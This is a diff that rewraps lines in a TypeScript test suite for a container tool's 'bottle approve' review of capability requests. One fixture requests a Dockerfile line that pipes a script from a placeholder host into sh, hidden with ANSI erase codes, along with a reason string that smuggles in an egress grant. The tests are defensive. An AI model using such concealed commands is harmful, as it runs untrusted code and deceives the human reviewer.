@@ -16,7 +16,9 @@ afterAll(() => rmSync(dir, { recursive: true, force: true }));
 
 const dockerfilePath = join(dir, 'dev.Dockerfile');
 writeFileSync(dockerfilePath, 'FROM debian:bookworm-slim\nRUN apt-get update\nUSER node\n');
-const plan = samplePlan(ID, { image: { tag: 'claude-bottle/dev:0123456789abcdef', context_hash: 'x', dockerfile: dockerfilePath, builtin: false } });
+const plan = samplePlan(ID, {
+  image: { tag: 'claude-bottle/dev:0123456789abcdef', context_hash: 'x', dockerfile: dockerfilePath, builtin: false },
+});
 
 const ask = (request_id: string, dockerfile: string, reason = 'need pip'): Step => [
   'capability.requested',
@@ -34,8 +36,11 @@ function review(events: LifecycleEvent[]) {
 
 describe('bottle approve shows the request it approves', () => {
   it('shows a Dockerfile request as a diff against the bottle current Dockerfile, escapes made visible', async () => {
-    const requested = 'FROM debian:bookworm-slim\nRUN apt-get update\nRUN curl -s https://x.test/i.sh | sh\u001b[1A\u001b[2K\nUSER node\n';
-    const lines = await review(history([...launchSteps(ID, plan), ask('cap-7', requested, 'need pip\r\u001b[2Kegress pypi.org:443')]));
+    const requested =
+      'FROM debian:bookworm-slim\nRUN apt-get update\nRUN curl -s https://x.test/i.sh | sh\u001b[1A\u001b[2K\nUSER node\n';
+    const lines = await review(
+      history([...launchSteps(ID, plan), ask('cap-7', requested, 'need pip\r\u001b[2Kegress pypi.org:443')]),
+    );
     for (const line of lines) expect(line).not.toMatch(CONTROL);
     expect(lines[0]).toBe(`request cap-7 from ${ID}: dockerfile`);
     expect(lines[1]).toBe('reason: need pip\\r\\x1b[2Kegress pypi.org:443');
@@ -59,7 +64,9 @@ describe('bottle approve shows the request it approves', () => {
     const events = history([...launchSteps(ID, plan), ask('cap-9', 'FROM scratch\n')]);
     const live = foldEvents(initialBottleState(ID), events);
     const withoutBody = events.filter((e) => e.type !== 'capability.requested');
-    await expect(capabilityReview(fakeSession(withoutBody), ID, live, live.context.pendingCapability!)).rejects.toThrow(/not in .* event log/);
+    await expect(capabilityReview(fakeSession(withoutBody), ID, live, live.context.pendingCapability!)).rejects.toThrow(
+      /not in .* event log/,
+    );
   });
 
   it('takes the last approved Dockerfile request as the current Dockerfile', () => {
@@ -70,7 +77,9 @@ describe('bottle approve shows the request it approves', () => {
     ]);
     const live = foldEvents(initialBottleState(ID), events);
     expect(currentDockerfile(events, live)).toEqual({ source: 'approved in request cap-1', text: 'FROM one\n' });
-    expect(currentDockerfile(events.slice(0, -1), live).text).toBe('FROM debian:bookworm-slim\nRUN apt-get update\nUSER node\n');
+    expect(currentDockerfile(events.slice(0, -1), live).text).toBe(
+      'FROM debian:bookworm-slim\nRUN apt-get update\nUSER node\n',
+    );
   });
 });
 
